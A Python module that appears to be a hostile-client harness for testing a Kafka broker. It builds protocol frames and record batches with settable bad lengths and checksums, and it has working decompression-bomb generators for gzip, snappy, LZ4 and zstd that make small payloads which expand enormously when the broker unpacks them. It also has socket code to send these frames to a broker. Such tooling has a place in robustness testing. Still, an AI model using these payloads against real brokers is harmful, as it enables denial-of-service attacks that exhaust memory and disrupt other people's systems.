"""Just enough of the protocol to lie in it: frames, record batches, and what each codec unpacks into more than anybody wants."""

import socket
import struct
import time
import zlib

PRODUCE, FETCH, LIST_OFFSETS, METADATA, OFFSET_COMMIT, OFFSET_FETCH, FIND_COORDINATOR, JOIN_GROUP = 0, 1, 2, 3, 8, 9, 10, 11
SYNC_GROUP, DESCRIBE_GROUPS, API_VERSIONS, CREATE_TOPICS, DESCRIBE_CONFIGS = 14, 15, 18, 19, 32
CONSUMER_GROUP_HEARTBEAT = 68
GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4

# Of every record: what lies in the future is refused for that.
NOW = int(time.time() * 1000)

TABLE = []
for n in range(256):
    for _ in range(8):
        n = n >> 1 ^ (0x82F63B78 if n & 1 else 0)
    TABLE.append(n)


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ TABLE[(crc ^ byte) & 0xFF]
    return crc ^ 0xFFFFFFFF


def i8(n):
    return struct.pack(">b", n)


def i16(n):
    return struct.pack(">h", n)


def i32(n):
    return struct.pack(">i", n)


def i64(n):
    return struct.pack(">q", n)


def uvarint(n):
    out = bytearray()
    while n > 0x7F:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    return bytes(out + bytes([n]))


def varint(n):
    return uvarint((n << 1 ^ n >> 63) & (1 << 64) - 1)


def string(text):
    return i16(len(text)) + text.encode()


def array(items):
    return i32(len(items)) + b"".join(items)


def compact(text):
    return uvarint(len(text) + 1) + text.encode()


def frame(content):
    return i32(len(content)) + content


def request(key, version, body, flexible=False, correlation=7):
    """Without the length in front."""
    return i16(key) + i16(version) + i32(correlation) + string("hostile") + (b"\0" if flexible else b"") + body


def record(value=b"value", delta=0):
    body = b"\0" + varint(0) + varint(delta) + varint(-1) + varint(len(value)) + value + varint(0)
    return varint(len(body)) + body


def batch(records, count=1, last_delta=None, attributes=0, magic=2, length=None, crc=None, producer=(-1, -1, -1)):
    last_delta = count - 1 if last_delta is None else last_delta
    covered = i16(attributes) + i32(last_delta) + i64(NOW) * 2 + i64(producer[0]) + i16(producer[1]) + i32(producer[2]) + i32(count) + records
    head = i32(-1) + i8(magic) + struct.pack(">I", crc32c(covered) if crc is None else crc)
    return i64(0) + i32(len(head) + len(covered) if length is None else length) + head + covered


def produce(topic, records, partition=0, version=8, acks=-1):
    partitions = array([i32(partition) + i32(len(records)) + records])
    return request(PRODUCE, version, i16(-1) + i16(acks) + i32(120_000) + array([string(topic) + partitions]))


def bomb_record(size):
    """The head of a record whose value has `size` bytes, and its end: what is between is the bomb."""
    inner = b"\0" + varint(0) + varint(0) + varint(-1) + varint(size)
    return varint(len(inner) + size + 1) + inner, varint(0)


def gzip_bomb(size):
    head, end = bomb_record(size)
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out, piece = packer.compress(head), bytes(1 << 20)
    for _ in range(size >> 20):
        out += packer.compress(piece)
    return out + packer.compress(end) + packer.flush()


def snappy_bomb(size):
    """Raw snappy: a literal, and copies of 64 bytes from one byte before: 21 times as large at most, as the format has it."""
    head, end = bomb_record(size)
    first = head + b"\0"
    out = bytearray(uvarint(len(head) + size + len(end)))
    out += bytes([len(first) - 1 << 2]) + first
    left = size - 1
    while left:
        count = min(left, 64)
        out += bytes([count - 1 << 2 | 2]) + struct.pack("<H", 1)
        left -= count
    return bytes(out + bytes([len(end) - 1 << 2]) + end)


def xxh32(data, seed=0):
    """For inputs below 16 bytes, as LZ4's frame header is."""
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    mask = 0xFFFFFFFF
    h = seed + p5 + len(data) & mask
    for byte in data:
        h = h + byte * p5 & mask
        h = (h << 11 | h >> 21) & mask
        h = h * p1 & mask
    h ^= h >> 15
    h = h * p2 & mask
    h ^= h >> 13
    h = h * p3 & mask
    return h ^ h >> 16


def lz4_bomb(size):
    """Blocks of 4 MiB of one byte each, in some 16 KiB."""
    head, end = bomb_record(size)
    descriptor = bytes([0x60, 0x70])
    out = bytearray(struct.pack("<I", 0x184D2204) + descriptor + bytes([xxh32(descriptor) >> 8 & 0xFF]))

    def stored(data):
        return struct.pack("<I", len(data) | 1 << 31) + data

    def repeated(count):
        # A literal of one byte, a match as long as the rest but five, and five literals: what the format ends with.
        match = count - 6
        left, lengths = match - 4 - 15, bytearray()
        while left >= 255:
            lengths.append(255)
            left -= 255
        lengths.append(left)
        block = bytes([0x1F, 0]) + struct.pack("<H", 1) + bytes(lengths) + bytes([0x50]) + bytes(5)
        return struct.pack("<I", len(block)) + block

    out += stored(head)
    for _ in range(size >> 22):
        out += repeated(1 << 22)
    return bytes(out + stored(end) + struct.pack("<I", 0))


def zstd_bomb(size):
    """Blocks of 128 KiB in four bytes each."""
    head, end = bomb_record(size)

    def block(kind, length, content, last=0):
        return struct.pack("<I", length << 3 | kind << 1 | last)[:3] + content

    # A window of 128 KiB, no content size.
    out = bytearray(struct.pack("<I", 0xFD2FB528) + bytes([0, 7 << 3]))
    out += block(0, len(head), head)
    for _ in range(size >> 17):
        out += block(1, 1 << 17, b"\0")
    return bytes(out + block(0, len(end), end, 1))


BOMBS = {GZIP: gzip_bomb, SNAPPY: snappy_bomb, LZ4: lz4_bomb, ZSTD: zstd_bomb}


class Closed(Exception):
    pass


class Connection:
    def __init__(self, address, timeout=30):
        self.socket = socket.create_connection(address, timeout)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (ConnectionError, BrokenPipeError) as error:
            raise Closed from error

    def half_close(self):
        self.socket.shutdown(socket.SHUT_WR)

    def receive(self, count):
        out = b""
        while len(out) < count:
            try:
                piece = self.socket.recv(count - len(out))
            except ConnectionError as error:
                raise Closed from error
            if not piece:
                raise Closed
            out += piece
        return out

    def answer(self):
        """The next answer behind its length; `Closed` where there is none, TimeoutError where neither comes."""
        (length,) = struct.unpack(">i", self.receive(4))
        return self.receive(length)

    def ask(self, content):
        self.send(frame(content))
        return self.answer()
